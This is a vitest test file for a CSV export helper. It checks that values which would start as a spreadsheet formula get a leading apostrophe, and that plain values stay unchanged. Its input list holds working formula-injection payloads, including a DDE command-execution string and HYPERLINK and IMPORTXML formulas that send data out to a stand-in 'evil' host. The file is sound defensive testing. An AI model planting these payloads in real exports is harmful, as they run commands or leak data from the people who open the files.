import { expect, test } from 'vitest'
import { csvCell, csvLine } from './csv.ts'

const attacks = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '  @x', '\u00a0=1', '\ufeff=1'],
  ...['=cmd|" /C calc"!A0', '=HYPERLINK("http://evil/?"&A1,"x")', '+cmd', '-cmd', '@cmd', '＝1+1', '＋1', '－1', '＠x'],
  ...['=\r\n1', '-', '+', '@', '=', '=IMPORTXML("http://evil")', '=1,"x"', '-2+3+cmd', '+49 30 123', '"=1"\n=2'],
]

/** What a spreadsheet reads: fields of one line, quotes taken off. */
const read = (line: string): string[] =>
  [...line.replace(/\r\n$/, '').matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,"]*))/g)].map(
    ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '',
  )

test('no cell begins as a formula, and the text behind the apostrophe is what was given', () => {
  expect(attacks.length).toBeGreaterThanOrEqual(30)
  for (const attack of attacks) {
    const [first, cell, last] = read(csvLine(['a', attack, 'b']))
    expect([first, last]).toEqual(['a', 'b'])
    expect(cell).not.toMatch(/^[\s\u00a0\ufeff]*[=+\-@＝＋－＠]|^[\t\r\n]/)
    expect(cell?.replace(/^'/, '')).toBe(attack)
  }
})

test('ordinary text, numbers and nothing stay as they are', () => {
  expect(csvLine(['plain', -4.5, '-12', true, null, undefined, 'a,b', 'say "x"', 'two\nlines'])).toBe(
    'plain,-4.5,-12,true,,,"a,b","say ""x""","two\nlines"\r\n',
  )
  expect(csvCell('it’s 5 > 3')).toBe('it’s 5 > 3')
})
